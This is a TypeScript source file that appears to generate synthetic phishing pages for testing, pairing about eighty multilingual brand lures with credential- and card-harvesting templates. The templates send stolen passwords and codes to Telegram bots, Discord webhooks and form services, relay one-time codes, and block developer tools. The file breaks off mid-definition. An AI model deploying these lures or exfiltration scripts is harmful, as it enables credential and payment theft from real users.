/** Phishing kits: pages that take passwords, cards and codes in the name of a brand. Attackers' addresses are reserved or made up. */
import type { FreshPage } from '../browser-report.ts';
import { type Chance, chanceOf } from '../chance.ts';
import { type Lang, wordsOf } from '../languages.ts';
import { documentOf, escaped, external, field, hidden, inline, link, list } from '../markup.ts';
import { base64, hexEscaped, packed, percent, stringArray, xored } from '../obfuscation.ts';

type Kit =
  | 'php'
  | 'telegram'
  | 'formspree'
  | 'googleForm'
  | 'dataAddress'
  | 'livePanel'
  | 'card'
  | 'prefilled'
  | 'written'
  | 'savedCopy'
  | 'proxy'
  | 'discord'
  | 'emailjs'
  | 'rc4'
  | 'cardAndCode'
  | 'identity'
  | 'steps';

type Bait = readonly [
  brand: string,
  lang: Lang,
  url: string,
  kit: Kit,
  headline: string,
  text: string,
  after: string,
];

const BAITS: readonly Bait[] = [
  // mail and office
  [
    'Microsoft',
    'en',
    'https://microsoft-mailbox-renew-4471.com/common/login.php?client=8f2a',
    'php',
    'Sign in',
    'Because you’re accessing sensitive info, you need to verify your password.',
    'https://outlook.office.com',
  ],
  [
    'Microsoft',
    'en',
    'https://sharedoc-secure9931.web.app/#bWFya0BhY21lLmV4YW1wbGU=',
    'prefilled',
    'Enter password',
    'Your organization requires you to sign in again to view “Remittance_Advice_Q3.pdf”.',
    'https://www.office.com',
  ],
  [
    'Outlook',
    'de',
    'https://outlook-postfach-erweiterung.weebly.com/',
    'formspree',
    'Ihr Postfach ist zu 98 % voll',
    'Sie haben das Speicherlimit Ihres Postfachs erreicht. Melden Sie sich an, um Ihren Speicherplatz kostenlos zu erweitern, sonst wird Ihr Konto innerhalb von 24 Stunden deaktiviert.',
    'https://outlook.live.com',
  ],
  [
    'Office 365',
    'fr',
    'https://login-0ffice365-securite.pages.dev/connexion',
    'telegram',
    'Votre session a expiré',
    'Veuillez vous reconnecter pour éviter la perte de vos messages en attente (7).',
    'https://www.office.com',
  ],
  [
    'Microsoft',
    'es',
    'https://login.microsoftonline.com.auth-v2.sesion-empresa.net/common/oauth2',
    'proxy',
    'Iniciar sesión',
    'Para continuar a Outlook',
    'https://outlook.office.com',
  ],
  [
    'Gmail',
    'pt',
    'http://203.0.113.87/~gmail/ServiceLogin/index.html',
    'savedCopy',
    'Fazer login',
    'Prosseguir para o Gmail',
    'https://mail.google.com',
  ],
  [
    'Google',
    'en',
    'https://accounts-google-verify.duckdns.org/signin/v2/challenge/pwd',
    'steps',
    'Verify it’s you',
    'To help keep your account safe, Google wants to make sure it’s really you trying to sign in.',
    'https://myaccount.google.com',
  ],
  [
    'Yahoo',
    'en',
    'https://yahoo-account-recovery.github.io/mail/',
    'discord',
    'Sign in to Yahoo Mail',
    'Your account will be closed today unless you confirm ownership.',
    'https://mail.yahoo.com',
  ],
  [
    'Webmail',
    'en',
    'https://ipfs.io/ipfs/bafybeih5d6gxyz3mkq7vz2yr4o4ex4mple/webmail.html#info@acme.example',
    'prefilled',
    'Webmail Login',
    'Your mailbox password expires today. Continue with the same password below.',
    'https://www.google.com',
  ],
  [
    'Roundcube',
    'pl',
    'https://poczta-aktualizacja.000webhostapp.com/roundcube/',
    'php',
    'Witamy w Roundcube Webmail',
    'Twoja skrzynka pocztowa wymaga aktualizacji do wersji 2024. Zaloguj się, aby nie utracić wiadomości.',
    'https://roundcube.net',
  ],
  [
    'Zimbra',
    'it',
    'https://www.carrozzeria-brambilla.example/wp-content/plugins/zimbra/login.html',
    'php',
    'Accesso Zimbra',
    'La tua quota di posta è superata. Verifica il tuo account per continuare a ricevere messaggi.',
    'https://www.zimbra.com',
  ],
  [
    'cPanel',
    'en',
    'https://storage.googleapis.com/cpanel-quota-9912/index.html',
    'rc4',
    'cPanel Webmail',
    '3 incoming messages are pending. Log in to release them to your inbox.',
    'https://cpanel.net',
  ],
  [
    'DocuSign',
    'en',
    'https://docusign-envelope-review.r2.dev/doc.html',
    'telegram',
    'Review and sign: Settlement Agreement',
    'Select your email provider to view the document: Office365, Outlook, Gmail, Yahoo, Other mail.',
    'https://www.docusign.com',
  ],
  [
    'Adobe',
    'ja',
    'https://adobe-pdf-viewer-jp.vercel.app/view',
    'emailjs',
    '保護されたPDFファイル',
    '請求書.pdf を表示するには、メールのパスワードでログインしてください。',
    'https://www.adobe.com',
  ],
  [
    'Dropbox',
    'nl',
    'https://dropbox-bestand-delen.blogspot.com/2024/03/offerte.html',
    'googleForm',
    'Bekijk het gedeelde bestand',
    'Een klant heeft een offerte met u gedeeld. Log in met uw e-mailaccount om te downloaden.',
    'https://www.dropbox.com',
  ],
  [
    'SharePoint',
    'sv',
    'https://sharepoint-fil.trycloudflare.com/personal/faktura',
    'dataAddress',
    'Faktura_2024.xlsx',
    'Du måste logga in för att öppna dokumentet som delats med dig.',
    'https://www.office.com',
  ],
  [
    'WeTransfer',
    'tr',
    'https://wetransfer-indir.glitch.me/?m=muhasebe@firma.example',
    'prefilled',
    'Dosyalarınız hazır',
    '2 dosya, 14,7 MB – 3 gün içinde silinecek. İndirmek için e-posta şifrenizi girin.',
    'https://wetransfer.com',
  ],
  [
    'Alibaba Mail',
    'zh',
    'http://qiye-mail-upgrade.198-51-100-9.sslip.io/alimail/login.html',
    'written',
    '企业邮箱安全升级',
    '您的邮箱即将停用，请在24小时内登录验证，以免影响收发邮件。',
    'https://qiye.aliyun.com',
  ],
  [
    'Mail.ru',
    'ru',
    'https://mail-ru-bezopasnost.ru.example/login',
    'php',
    'Вход в почту',
    'Обнаружена подозрительная активность. Подтвердите аккаунт, иначе доступ будет ограничен.',
    'https://mail.ru',
  ],
  [
    'Apple',
    'en',
    'https://appleid.apple.com-signin.idmsa.support/account',
    'steps',
    'Apple ID',
    'Your Apple ID has been locked for security reasons. Verify your account before 24 hours.',
    'https://appleid.apple.com',
  ],
  [
    'iCloud',
    'ar',
    'https://icloud-find-iphone.support-id.example/ar/',
    'telegram',
    'تم العثور على جهاز iPhone الخاص بك',
    'سجّل الدخول لعرض الموقع الحالي لجهازك المفقود.',
    'https://www.icloud.com',
  ],
  [
    'iCloud',
    'es',
    'https://xn--iclud-uta.com/find/es',
    'php',
    'Buscar mi iPhone',
    'Su iPhone 13 se ha encontrado hoy a las 10:42. Inicie sesión para ver la ubicación.',
    'https://www.icloud.com',
  ],
  // banks
  [
    'Sparkasse',
    'de',
    'https://sparkasse-push-tan-erneuerung.com/anmeldung',
    'livePanel',
    'Ihre pushTAN-Registrierung läuft ab',
    'Aufgrund der neuen EU-Richtlinie PSD2 müssen Sie Ihr pushTAN-Verfahren bis heute aktualisieren. Andernfalls wird Ihr Online-Banking gesperrt.',
    'https://www.sparkasse.de',
  ],
  [
    'Volksbank',
    'de',
    'https://vr-securego-aktivierung.info/kunde/',
    'cardAndCode',
    'VR SecureGo plus aktualisieren',
    'Bitte bestätigen Sie Ihre Daten, damit Sie weiterhin Zahlungen freigeben können.',
    'https://www.vr.de',
  ],
  [
    'Postbank',
    'de',
    'http://198.51.100.23/postbank/bestsign/login.php',
    'php',
    'BestSign abgelaufen',
    'Zur Wiederherstellung des Zugangs benötigen wir Ihre Postbank ID und Ihr Passwort.',
    'https://www.postbank.de',
  ],
  [
    'Crédit Agricole',
    'fr',
    'https://credit-agricole-securipass-maj.com/',
    'livePanel',
    'Activation SécuriPass',
    'Pour continuer à effectuer vos opérations, veuillez activer votre nouveau service SécuriPass.',
    'https://www.credit-agricole.fr',
  ],
  [
    'La Banque Postale',
    'fr',
    'https://www.boulangerie-dupre.example/wp-includes/js/certicode/index.php',
    'cardAndCode',
    'Certicode Plus',
    'Une connexion inhabituelle a été détectée sur votre compte. Confirmez votre identité.',
    'https://www.labanquepostale.fr',
  ],
  [
    'BBVA',
    'es',
    'https://bbva-dispositivo-nuevo.es.example/acceso/',
    'livePanel',
    'Nuevo dispositivo vinculado',
    'Se ha vinculado un nuevo dispositivo a su cuenta. Si no ha sido usted, verifique inmediatamente.',
    'https://www.bbva.es',
  ],
  [
    'Santander',
    'es',
    'https://particulares-santander.online/login',
    'steps',
    'Acceso clientes',
    'Su tarjeta ha sido limitada temporalmente por motivos de seguridad.',
    'https://www.bancosantander.es',
  ],
  [
    'Intesa Sanpaolo',
    'it',
    'https://intesasanpaolo-verifica-sicurezza.com/it/',
    'livePanel',
    'Anomalia rilevata',
    'Abbiamo riscontrato un accesso anomalo al suo conto. Verifichi i suoi dati per evitare la sospensione.',
    'https://www.intesasanpaolo.com',
  ],
  [
    'PostePay',
    'it',
    'https://postepay-aggiornamento-dati.web.app/',
    'card',
    'Aggiornamento obbligatorio',
    'La sua carta PostePay verrà bloccata. Aggiorni i dati per mantenerla attiva.',
    'https://www.poste.it',
  ],
  [
    'ING',
    'nl',
    'https://ing-mijn-omgeving-verlengen.nl.example/inloggen',
    'livePanel',
    'Uw betaalpas verloopt',
    'Vraag vóór vrijdag kosteloos een nieuwe pas aan, anders betaalt u € 15,95.',
    'https://www.ing.nl',
  ],
  [
    'mBank',
    'pl',
    'https://online-mbank-weryfikacja.com/pl/Login',
    'php',
    'Logowanie do serwisu transakcyjnego',
    'Twoje konto zostało tymczasowo zablokowane. Zaloguj się, aby potwierdzić tożsamość.',
    'https://www.mbank.pl',
  ],
  [
    'Chase',
    'en',
    'https://secure05b.chase.com.account-alert7.com/web/auth/',
    'identity',
    'We locked your account',
    'We noticed unusual activity. Please confirm your identity to restore access.',
    'https://www.chase.com',
  ],
  [
    'Wells Fargo',
    'en',
    'https://wellsfargo-alerts.ngrok-free.app/signon',
    'telegram',
    'Sign On to View Your Accounts',
    'A Zelle payment of $749.00 to J. Whitman is pending. Sign on to cancel.',
    'https://www.wellsfargo.com',
  ],
  [
    'HSBC',
    'en',
    'https://hsbc-payee-cancel.co.uk.example/uk/login',
    'livePanel',
    'Cancel new payee',
    'A new payee MR R HARRIS was added on an unknown device. If this was NOT you, log on now.',
    'https://www.hsbc.co.uk',
  ],
  [
    'Garanti BBVA',
    'tr',
    'https://garanti-iade-basvuru.com.example/giris',
    'cardAndCode',
    'Kart aidatı iadesi',
    '1.450 TL kart aidatı iadenizi almak için bilgilerinizi doğrulayın.',
    'https://www.garantibbva.com.tr',
  ],
  [
    'Bradesco',
    'pt',
    'https://bradesco-atualizacao-token.netlify.app/',
    'steps',
    'Sincronize seu token',
    'Seu dispositivo de segurança está desatualizado. Evite o bloqueio da conta.',
    'https://www.bradesco.com.br',
  ],
  [
    '三井住友銀行',
    'ja',
    'https://smbc-card-kakunin.cn.example/mem/index',
    'cardAndCode',
    '【重要】お取引の確認',
    'お客様の口座で不正利用の疑いがあるため、ご利用を一時停止しました。本人確認をお願いします。',
    'https://www.smbc.co.jp',
  ],
  [
    'Сбербанк',
    'ru',
    'https://sber-vyplata-2024.site.example/',
    'cardAndCode',
    'Вам положена выплата 42 800 ₽',
    'Введите данные карты для зачисления социальной выплаты.',
    'https://www.sberbank.ru',
  ],
  [
    'مصرف الراجحي',
    'ar',
    'https://alrajhi-update-info.com.example/login',
    'livePanel',
    'تحديث البيانات',
    'تم إيقاف بطاقتك البنكية. يرجى تحديث بياناتك لتفعيلها خلال 24 ساعة.',
    'https://www.alrajhibank.com.sa',
  ],
  [
    '中国工商银行',
    'zh',
    'http://icbc-jifen.203-0-113-55.nip.io/wap/',
    'cardAndCode',
    '积分兑换现金',
    '您的账户有 12 580 积分即将过期，请登录兑换 629 元现金。',
    'https://www.icbc.com.cn',
  ],
  [
    'Swedbank',
    'sv',
    'https://swedbank-bankid-fornya.se.example/',
    'livePanel',
    'Ditt BankID måste förnyas',
    'Identifiera dig inom 24 timmar för att undvika spärr.',
    'https://www.swedbank.se',
  ],
  // parcels
  [
    'DHL',
    'en',
    'https://dhl-redelivery-fee.top/track?id=JD014600003',
    'card',
    'Your parcel is on hold',
    'Your package could not be delivered because customs duty of 1.99 € was not paid.',
    'https://www.dhl.com',
  ],
  [
    'DHL',
    'de',
    'https://www.yogastudio-lichtblick.example/wp-admin/css/dhl/paket/',
    'cardAndCode',
    'Zustellung fehlgeschlagen',
    'Ihr Paket wartet im Verteilzentrum. Bitte zahlen Sie die Versandkosten von 2,99 € innerhalb von 48 Stunden.',
    'https://www.dhl.de',
  ],
  [
    'USPS',
    'en',
    'https://usps.postal-reship9.com/pg',
    'identity',
    'Tracking 9200 1902 4411',
    'The package cannot be delivered due to an incomplete address. Please update it.',
    'https://www.usps.com',
  ],
  [
    'La Poste',
    'fr',
    'https://colissimo-reprogrammer-livraison.info/',
    'cardAndCode',
    'Votre colis n’a pas pu être livré',
    'Des frais de 1,45 € sont nécessaires pour une nouvelle présentation.',
    'https://www.laposte.fr',
  ],
  [
    'Correos',
    'es',
    'https://correos-aduanas.firebaseapp.com/pago',
    'card',
    'Su paquete está retenido',
    'Para completar la entrega confirme el pago de los gastos de aduana (2,64 €).',
    'https://www.correos.es',
  ],
  [
    'InPost',
    'pl',
    'https://inpost-odbior.bond/dostawa/4471',
    'cardAndCode',
    'OLX – odbierz pieniądze',
    'Kupujący opłacił przedmiot. Wprowadź dane karty, aby otrzymać 240 zł.',
    'https://inpost.pl',
  ],
  [
    '佐川急便',
    'ja',
    'http://sagawa-fuzai.duckdns.org/',
    'identity',
    'お荷物のお届けにあがりましたが不在の為持ち帰りました',
    '再配達のご依頼は、住所とカード情報をご確認ください。',
    'https://www.sagawa-exp.co.jp',
  ],
  [
    'Post Italia',
    'it',
    'https://pacco-in-giacenza.cfd/spedizione',
    'card',
    'Il tuo pacco è in giacenza',
    'Paga 1,85 € per sbloccare la spedizione.',
    'https://www.poste.it',
  ],
  // streaming, shops, social
  [
    'Netflix',
    'en',
    'https://netflix-billing-hold.com/YourAccount',
    'cardAndCode',
    'Your account is on hold',
    'We’re having some trouble with your current billing information. Update your payment details.',
    'https://www.netflix.com',
  ],
  [
    'Netflix',
    'pt',
    'https://netflix-pagamento.b-cdn.net/br/',
    'card',
    'Atualize seu pagamento',
    'Sua assinatura será cancelada em 24 horas.',
    'https://www.netflix.com',
  ],
  [
    'Disney+',
    'de',
    'https://disneyplus-mitgliedschaft.shop/login',
    'steps',
    'Ihre Mitgliedschaft ist abgelaufen',
    'Verlängern Sie für 90 Tage kostenlos.',
    'https://www.disneyplus.com',
  ],
  [
    'Spotify',
    'nl',
    'https://spotify-betaling-mislukt.surge.sh/',
    'emailjs',
    'Betaling mislukt',
    'Werk uw betaalgegevens bij om Premium te behouden.',
    'https://www.spotify.com',
  ],
  [
    'Amazon',
    'ja',
    'https://amazon-co-jp.prime-kaiin.icu/ap/signin',
    'identity',
    'Amazonプライムの自動更新設定を解除いたしました',
    'お支払い方法に問題があります。24時間以内に更新してください。',
    'https://www.amazon.co.jp',
  ],
  [
    'PayPal',
    'en',
    'https://paypal.com.resolution-center-id88.com/webapps/mpp/signin',
    'identity',
    'Your account has been limited',
    'We noticed a problem and need your help to resolve it.',
    'https://www.paypal.com',
  ],
  [
    'PayPal',
    'es',
    'https://xn--pypal-4ve.com/es/signin',
    'php',
    'Inicia sesión en PayPal',
    'Hemos limitado su cuenta por actividad inusual.',
    'https://www.paypal.com',
  ],
  [
    'Facebook',
    'en',
    'https://meta-business-appeal-case8812.vercel.app/',
    'telegram',
    'Page Policy Appeals',
    'Your page has been scheduled for deletion because of a violation of trademark rights. Submit an appeal within 24 hours.',
    'https://www.facebook.com',
  ],
  [
    'Facebook',
    'tr',
    'https://facebook-giris-onay.blogspot.com/',
    'googleForm',
    'Facebook’a giriş yap',
    'Videoyu izlemek için yaşınızı doğrulayın ve giriş yapın.',
    'https://www.facebook.com',
  ],
  [
    'Instagram',
    'en',
    'https://instagram-copyright-helpform.ml/',
    'steps',
    'Copyright infringement',
    'A complaint was made about your account. Fill in the form or it will be removed in 48 hours.',
    'https://www.instagram.com',
  ],
  [
    'WhatsApp',
    'zh',
    'https://web-whatsapp-login.cc.example/',
    'livePanel',
    '验证您的 WhatsApp',
    '为了继续使用，请输入手机号码和收到的六位验证码。',
    'https://web.whatsapp.com',
  ],
  [
    'VK',
    'ru',
    'https://vk-golosovanie-detskiy.ru.example/vote',
    'discord',
    'Голосование: детский рисунок',
    'Чтобы отдать голос за участника №4, войдите через ВКонтакте.',
    'https://vk.com',
  ],
  [
    'Steam',
    'en',
    'https://steamcommunlty-trade.com/openid/login',
    'steps',
    'Sign in to steamcommunity',
    'Sign in through Steam to accept the trade offer: AK-47 Redline.',
    'https://steamcommunity.com',
  ],
  [
    'LinkedIn',
    'fr',
    'https://linkedin-offre-emploi.onrender.com/checkpoint',
    'telegram',
    'S’identifier',
    'Un recruteur vous a envoyé un message. Connectez-vous pour le lire.',
    'https://www.linkedin.com',
  ],
  [
    'Vinted',
    'fr',
    'https://vinted-paiement-securise.click/order/88121',
    'cardAndCode',
    'Recevez vos fonds',
    'Votre article a été vendu. Indiquez votre carte pour recevoir 38,00 €.',
    'https://www.vinted.fr',
  ],
  [
    'Booking.com',
    'en',
    'https://booking-confirm-guest.com/reservation/3341',
    'cardAndCode',
    'Confirm your reservation',
    'Your booking at Hotel Miramar may be cancelled. Verify your card within 12 hours; this is not a charge.',
    'https://www.booking.com',
  ],
  // government and telecom
  [
    'HMRC',
    'en',
    'https://hmrc-rebate-claim.uk.example/gov/refund',
    'identity',
    'Claim your tax refund',
    'You are eligible for a tax refund of £268.48. Please submit the request within 3 days.',
    'https://www.gov.uk',
  ],
  [
    'ELSTER',
    'de',
    'https://elster-steuerrueckerstattung.com/antrag',
    'identity',
    'Steuerrückerstattung 2023',
    'Nach den letzten Berechnungen haben Sie Anspruch auf 584,20 €. Bitte füllen Sie das Formular aus.',
    'https://www.elster.de',
  ],
  [
    'Ameli',
    'fr',
    'https://ameli-carte-vitale-renouvellement.com/',
    'cardAndCode',
    'Nouvelle carte Vitale V3',
    'Votre carte Vitale expire. Commandez la nouvelle version : frais d’envoi 0,95 €.',
    'https://www.ameli.fr',
  ],
  [
    'ANTAI',
    'fr',
    'https://antai-amende-impayee.info/paiement',
    'card',
    'Amende forfaitaire',
    'Vous avez une amende impayée de 35 €. Sans règlement sous 48 h, elle sera majorée à 135 €.',
    'https://www.antai.gouv.fr',
  ],
  [
    'gov.br',
    'pt',
    'https://gov-br-cpf-regularizacao.online/',
    'identity',
    'CPF irregular',
    'Seu CPF será suspenso hoje. Regularize pagando a taxa de R$ 58,90 via Pix.',
    'https://www.gov.br',
  ],
  [
    'e-Devlet',
    'tr',
    'https://edevlet-aidat-iade.com.example/giris',
    'cardAndCode',
    'e-Devlet Kapısı',
    'Bankalardan kesilen aidatların iadesi için son gün bugün.',
    'https://www.turkiye.gov.tr',
  ],
  [
    'Gosuslugi',
    'ru',
    'https://gosuslugi-vhod.site.example/login',
    'steps',
    'Вход в Госуслуги',
    'Ваш аккаунт взломан. Срочно смените пароль.',
    'https://www.gosuslugi.ru',
  ],
  [
    'DGT',
    'es',
    'https://dgt-multas-pendientes.com.example/',
    'card',
    'Multa pendiente de pago',
    'Tiene una sanción de 35,90 € pendiente. Pague antes de hoy con descuento.',
    'https://www.dgt.es',
  ],
  [
    'E-ZPass',
    'en',
    'https://e-zpass.com-tollbillqkd.xin/us',
    'cardAndCode',
    'Unpaid toll',
    'Your vehicle has an unpaid toll of $6.99. Pay now to avoid a late fee of $50.00.',
    'https://www.e-zpassny.com',
  ],
  [
    'Telekom',
    'de',
    'https://telekom-rechnung-storno.com/kundencenter',
    'php',
    'Telekom Login',
    'Ihre letzte Zahlung ist fehlgeschlagen. Melden Sie sich an, um eine Sperrung zu vermeiden.',
    'https://www.telekom.de',
  ],
  [
    'Orange',
    'fr',
    'https://orange-messagerie-vocale.weeblysite.com/',
    'formspree',
    'Identifiez-vous',
    'Vous avez 2 nouveaux messages vocaux. Connectez-vous pour les écouter.',
    'https://www.orange.fr',
  ],
  [
    'MetaMask',
    'en',
    'https://metamask-kyc-verify.com/restore',
    'rc4',
    'Verify your wallet',
    'Due to new regulations all wallets must be verified. Unverified wallets will be suspended.',
    'https://metamask.io',
  ],
  [
    'Coinbase',
    'en',
    'https://coinbase.com-help-case.io/signin',
    'livePanel',
    'Sign in to Coinbase',
    'A withdrawal of 1.204 BTC was requested from a new device in Lagos. Sign in to cancel it.',
    'https://www.coinbase.com',
  ],
  [
    'Binance',
    'tr',
    'https://binance-guvenlik-tr.com.example/login',
    'steps',
    'Binance Giriş',
    'Hesabınızda şüpheli işlem tespit edildi. Varlıklarınızı korumak için doğrulayın.',
    'https://www.binance.com',
  ],
  [
    'OneDrive',
    'pl',
    'https://onedrive-faktura.cloudfront-cdn.example/d/',
    'written',
    'Faktura VAT 03/2024',
    'Dokument jest chroniony. Zaloguj się kontem firmowym, aby go wyświetlić.',
    'https://onedrive.live.com',
  ],
  [
    'AOL',
    'en',
    'https://aol-mail-upgrade.sites.example/',
    'dataAddress',
    'Login to AOL',
    'Old version mailbox will be discontinued.',
    'https://www.aol.com',
  ],
];

const redirectAfter = (after: string) => `setTimeout(function(){window.location.replace("${after}");},1500);`;

function passwordForm(words: ReturnType<typeof wordsOf>, action: string, more = ''): string {
  return `<form id="lf" method="post" action="${action}">${field(words.mail, 'email', 'email', 'required')}${field(words.password, 'passwd', 'password', 'required')}${more}<button type="submit">${words.login}</button></form>`;
}

/** The form of the kit and its scripts. */
const KITS: Readonly<Record<Kit, (bait: Bait, c: Chance) => string>> = {
  php: ([, lang, , , , , after], c) => {
    const words = wordsOf(lang);
    return `${passwordForm(words, c.pick(['next.php', 'post.php', 'login_post.php', 'action.php?s=1', 'mailer.php']), hidden('sess', c.hex(32)))}<div id="msg" style="display:none;color:red">${words.password} ✗</div>
${external('https://ajax.googleapis.com/ajax/libs/jquery/3.6.0/jquery.min.js')}${inline(`var count=0;$('#lf').submit(function(e){e.preventDefault();$('#msg').hide();$.ajax({dataType:'JSON',url:'next.php',type:'POST',data:{email:$('[name=email]').val(),password:$('[name=passwd]').val()},complete:function(){count++;if(count>=2){count=0;${redirectAfter(after)}return false;}$('[name=passwd]').val('');$('#msg').show();}});});`)}`;
  },
  telegram: ([brand, lang, , , , , after], c) =>
    `${passwordForm(wordsOf(lang), '#')}${inline(`const botToken = "${c.int(1e9, 7e9)}:AA${c.base64(33).replaceAll(/[+/]/g, '_')}"; const chatId = "-100${c.int(1e9, 2e9)}";
document.getElementById('lf').addEventListener('submit', async function (e) { e.preventDefault();
  const geo = await fetch('https://ipapi.co/json/').then(r => r.json()).catch(() => ({}));
  const text = "${brand} RESULT\\nUser: " + this.email.value + "\\nPass: " + this.passwd.value + "\\nIP: " + geo.ip + " " + geo.country_name + "\\nUA: " + navigator.userAgent;
  await fetch("https://api.telegram.org/bot" + botToken + "/sendMessage", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ chat_id: chatId, text }) });
  ${redirectAfter(after)} });`)}`,
  formspree: ([, lang, , , , , after], c) =>
    passwordForm(
      wordsOf(lang),
      `https://formspree.io/f/${c.word(8)}`,
      `${hidden('_next', after)}${hidden('_subject', 'NEW LOG')}`,
    ),
  googleForm: ([, lang], c) =>
    `<form action="https://docs.google.com/forms/u/0/d/e/1FAIpQLS${c.base64(40).replaceAll(/[+/]/g, '_')}/formResponse" method="post" target="f">${field(wordsOf(lang).mail, `entry.${c.int(1e8, 9e8)}`)}${field(wordsOf(lang).password, `entry.${c.int(1e8, 9e8)}`, 'password')}<button>${wordsOf(lang).login}</button></form><iframe name="f" style="display:none" onload="if(window.sent)location='https://www.google.com'"></iframe>${inline('document.forms[0].onsubmit=function(){window.sent=true};')}`,
  dataAddress: ([brand, lang], c) => {
    const inner = `<html><body><h3>${escaped(brand)}</h3><form action="https://collect.${c.word(6)}.example/x.php" method="post"><input name="u"><input name="p" type="password"><button>${wordsOf(lang).login}</button></form></body></html>`;
    return `<iframe src="data:text/html;base64,${base64(inner)}" width="420" height="380" frameborder="0"></iframe>${passwordForm(wordsOf(lang), `data:text/html;base64,${base64('<script>location="https://collect.example/x.php"</script>')}`)}`;
  },
  livePanel: ([, lang], c) => {
    const words = wordsOf(lang);
    return `${passwordForm(words, 'core/submit', hidden('step', 'login'))}<div id="wait" style="display:none"><img src="assets/loader.gif" alt=""><p>…</p></div><form id="otp" style="display:none" method="post" action="core/submit"><input name="otp" inputmode="numeric" maxlength="8" placeholder="${words.code}"><input type="hidden" name="step" value="otp"><button>${words.continue}</button></form>
${external('assets/js/jquery.min.js')}${inline(`var uid='${c.hex(16)}';function ping(){$.post('panel/ajax/status.php',{uid:uid,online:1},function(r){switch(r){case 'otp':$('#wait').hide();$('#otp').show();break;case 'bad':$('#wait').hide();$('#lf').show().find('[name=passwd]').val('');break;case 'card':location='card.php?uid='+uid;break;case 'done':location='exit.php';break;}});}
setInterval(ping,2000);$('#lf,#otp').on('submit',function(e){e.preventDefault();$.post('panel/ajax/save.php',$(this).serialize()+'&uid='+uid);$(this).hide();$('#wait').show();});`)}`;
  },
  card: ([, lang], c) => {
    const words = wordsOf(lang);
    return `<form method="post" action="${c.pick(['send.php', 'pay/process.php', 'cc.php', 'app/carte.php'])}">${field(words.name, 'holder', 'text', 'required')}${field(words.card, 'cc', 'tel', 'required maxlength="19" autocomplete="off"')}${field(words.expiry, 'exp', 'tel', 'required placeholder="MM/YY"')}${field('CVV', 'cvv', 'tel', 'required maxlength="4"')}${field(words.phone, 'phone', 'tel')}<button>${words.pay}</button></form>
${inline(`var cc=document.querySelector('[name=cc]');cc.addEventListener('input',function(){this.value=this.value.replace(/\\D/g,'').replace(/(.{4})/g,'$1 ').trim();});document.addEventListener('contextmenu',function(e){e.preventDefault()});document.onkeydown=function(e){if(e.keyCode==123||(e.ctrlKey&&e.shiftKey&&e.keyCode==73)||(e.ctrlKey&&e.keyCode==85))return false;};`)}`;
  },
  prefilled: (
    [, lang, , , , , after],
    c,
  ) => `<img id="logo" alt=""><p id="who"></p><form id="lf"><input type="hidden" name="email"><input type="password" name="passwd" placeholder="${wordsOf(lang).password}"><button>${wordsOf(lang).login}</button></form>
${inline(`var raw=window.location.hash.substr(1)||new URLSearchParams(location.search).get('m');var em=/@/.test(raw)?raw:atob(raw);var dom=em.split('@')[1];
document.getElementById('logo').src='https://logo.clearbit.com/'+dom;document.getElementById('who').textContent=em;document.title=dom+' - ${wordsOf(lang).login}';document.body.style.backgroundImage="url('https://image.thum.io/get/width/1200/https://"+dom+"')";
var tries=0;document.getElementById('lf').onsubmit=function(e){e.preventDefault();fetch('https://${c.word(8)}.example/api/${c.hex(6)}/log.php',{method:'POST',mode:'no-cors',body:new URLSearchParams({x:em,y:this.passwd.value})}).finally(function(){if(++tries>1)location.href='https://'+dom||'${after}';else{document.querySelector('[name=passwd]').value='';alert('${wordsOf(lang).password}!');}});};`)}`,
  written: ([, lang]) =>
    `${inline(`document.write(unescape('${percent(passwordForm(wordsOf(lang), 'http://192.0.2.41/mail/verify.php'))}'));`)}`,
  savedCopy: ([, lang]) =>
    `<!-- Mirrored from accounts.google.com/ServiceLogin by HTTrack Website Copier/3.x [XR&CO'2014], Tue, 12 Mar 2024 03:11:20 GMT --><link rel="stylesheet" href="https://ssl.gstatic.com/accounts/static/login.css"><img src="https://ssl.gstatic.com/accounts/ui/logo_2x.png" alt="Google">${passwordForm(wordsOf(lang), 'gmail.php', `${hidden('GALX', 'xZ3k')}${hidden('continue', 'https://mail.google.com/mail/')}`)}${list([link('https://accounts.google.com/SignUp', 'Criar conta'), link('https://policies.google.com/privacy', 'Privacidade')])}`,
  proxy: ([, lang], c) =>
    `${inline(`//<![CDATA[\n$Config={"fShowPersistentCookiesWarning":false,"urlPost":"/common/login","sFT":"AQABAAEAAADnfolhJpSnRYB1SVj-${c.base64(80)}","urlGoToAADError":"https://login.live.com.auth-v2.sesion-empresa.net/oauth20_authorize.srf","sessionId":"${c.hex(32)}"};\n//]]>`)}<form name="f1" method="post" action="/common/login">${hidden('ctx', c.base64(60))}${field(wordsOf(lang).mail, 'loginfmt', 'email')}${field(wordsOf(lang).password, 'passwd', 'password')}<input type="submit" value="${wordsOf(lang).next}"></form>${external('https://aadcdn.msauth.net.auth-v2.sesion-empresa.net/shared/1.0/content/js/ConvergedLogin_PCore.min.js')}${inline(`(function(){var s=document.createElement('script');s.src='/s/${c.hex(64)}.js';document.head.appendChild(s);})();`)}`,
  discord: ([, lang, , , , , after], c) =>
    `${passwordForm(wordsOf(lang), '')}${inline(`document.getElementById('lf').onsubmit=function(ev){ev.preventDefault();var x=new XMLHttpRequest();x.open("POST","https://discord.com/api/webhooks/${c.int(1e9, 9e9)}${c.int(1e8, 9e8)}/${c.base64(68).replaceAll(/[+/]/g, '-')}");x.setRequestHeader('Content-type','application/json');x.send(JSON.stringify({username:"logs",content:"**login** "+this.email.value+" : "+this.passwd.value}));${redirectAfter(after)}};`)}`,
  emailjs: ([, lang, , , , , after], c) =>
    `${passwordForm(wordsOf(lang), '#', field(wordsOf(lang).card, 'cc', 'tel'))}${external('https://cdn.jsdelivr.net/npm/@emailjs/browser@3/dist/email.min.js')}${inline(`emailjs.init("${c.base64(17)}");document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();emailjs.sendForm('service_${c.word(7)}','template_${c.word(7)}',this).then(function(){${redirectAfter(after)}});});`)}`,
  rc4: ([, lang, , , , , after], c) =>
